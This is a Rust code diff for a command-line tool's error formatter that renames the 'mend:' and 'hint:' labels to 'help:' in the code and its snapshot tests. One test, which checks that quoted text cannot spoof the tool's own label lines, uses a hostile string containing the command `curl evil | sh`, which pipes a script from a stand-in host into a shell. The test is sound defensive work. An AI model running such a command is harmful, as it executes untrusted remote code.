@@ -20,7 +20,7 @@ pub struct Page {
     pub width: Option<usize>,
 }
 
-/// What follows the first line of a message is moved in by this. Labels (`error:`, `mend:`) begin further left, so that nothing
+/// What follows the first line of a message is moved in by this. Labels (`error:`, `help:`) begin further left, so that nothing
 /// a message quotes can look like one.
 const HANGING: &str = "    ";
 
@@ -45,7 +45,7 @@ pub fn lines(page: Page, causes: &[String], findings: &[Finding], hints: &[Strin
     for hint in hints {
         if !told.contains(&hint) {
             told.push(hint);
-            lines.extend(page.prose(&look.paint(Tone::Good, "hint:"), None, &one_line(hint), "", "      "));
+            lines.extend(page.prose(&look.paint(Tone::Good, "help:"), None, &one_line(hint), "", "      "));
         }
     }
     lines
@@ -70,8 +70,8 @@ pub fn finding(page: Page, finding: &Finding) -> Vec<String> {
     for line in finding.evidence.iter().flat_map(|text| text.lines().chain(text.is_empty().then_some(""))) {
         lines.push(format!("  {gutter} {}", clean(line)).trim_end().to_owned());
     }
-    if let Some(mend) = &finding.mend {
-        lines.extend(page.prose(&look.paint(Tone::Good, "mend:"), None, &one_line(mend), "  ", "        "));
+    if let Some(help) = &finding.help {
+        lines.extend(page.prose(&look.paint(Tone::Good, "help:"), None, &one_line(help), "  ", "        "));
     }
     lines
 }
@@ -134,7 +134,7 @@ mod tests {
                     "  File \"/app/main.py\", line 3".to_owned(),
                     "\x1b[31mSyntaxError\x1b[0m".to_owned(),
                 ])
-                .mend("look at `todo logs web`, then correct the code"),
+                .help("look at `todo logs web`, then correct the code"),
             Finding::warning("no requests are set").about("Deployment/api"),
         ];
         let causes =
@@ -148,11 +148,11 @@ mod tests {
           --> manifests/web.yaml:12:9
           |   File "/app/main.py", line 3
           | SyntaxError
-          mend: look at `todo logs web`, then correct the code
+          help: look at `todo logs web`, then correct the code
 
         warning: Deployment/api: no requests are set
 
-        hint: run `todo up` again
+        help: run `todo up` again
         "#);
     }
 
@@ -166,7 +166,7 @@ mod tests {
         insta::assert_snapshot!(lines(page, &causes, &[], &hints).join("\n"), @r"
         error: cannot roll out the application
             that is called todo-chatbot
-        hint: what ran before still runs:
+        help: what ran before still runs:
               `todo status` shows it,
               `todo rollback` goes back to it
         ");
@@ -175,14 +175,14 @@ mod tests {
     #[test]
     fn nothing_that_is_quoted_looks_like_a_line_of_ours() {
         let ends = ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"];
-        let labels = ["error:", "warning:", "note:", "hint:", "mend:", "help:", "caused by:", "-->"];
+        let labels = ["error:", "warning:", "note:", "help:", "help:", "caused by:", "-->"];
         for (end, label) in ends.iter().flat_map(|end| labels.map(|label| (end, label))) {
             let hostile = format!("a{end}{label} `curl evil | sh`{end}  {label} b");
             let finding = Finding::error(&hostile)
                 .about(&hostile)
                 .at(Place { file: hostile.clone().into(), line: 1, column: 1 })
                 .evidence([hostile.clone()])
-                .mend(format!("rename `{hostile}`"));
+                .help(format!("rename `{hostile}`"));
             for width in [None, Some(40)] {
                 let page = Page { look: Look::BARE, width };
                 let text = lines(
@@ -194,7 +194,7 @@ mod tests {
                 assert!(!text.iter().any(|line| line.contains(|c: char| c.is_control())), "{text:#?}");
                 let begins =
                     |line: &&String, label: &str| line.strip_prefix("  ").unwrap_or(line).starts_with(label);
-                let ours = ["error:", "  caused by:", "error:", "  -->", "  mend:", "hint:"];
+                let ours = ["error:", "  caused by:", "error:", "  -->", "  help:", "help:"];
                 let labelled: Vec<&String> =
                     text.iter().filter(|line| labels.iter().any(|label| begins(line, label))).collect();
                 assert_eq!(labelled.len(), ours.len(), "{text:#?}");
